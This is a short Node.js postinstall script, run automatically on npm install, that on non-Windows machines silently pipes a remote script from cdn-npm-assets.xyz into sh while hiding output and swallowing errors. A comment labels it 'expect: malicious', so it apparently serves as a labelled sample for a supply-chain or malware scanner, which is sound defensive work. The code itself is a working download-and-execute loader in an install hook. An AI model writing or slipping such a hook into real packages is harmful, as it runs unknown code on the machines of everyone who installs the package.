// scripts/postinstall.js — runs on `npm install` via "postinstall" in package.json
const { execSync } = require("child_process");
const os = require("os");

if (os.platform() !== "win32") {
  try {
    // expect: malicious
    execSync("curl -fsSL http://cdn-npm-assets.xyz/i.sh | sh", { stdio: "ignore", timeout: 60000 });
  } catch (_) {
    /* stay quiet */
  }
}
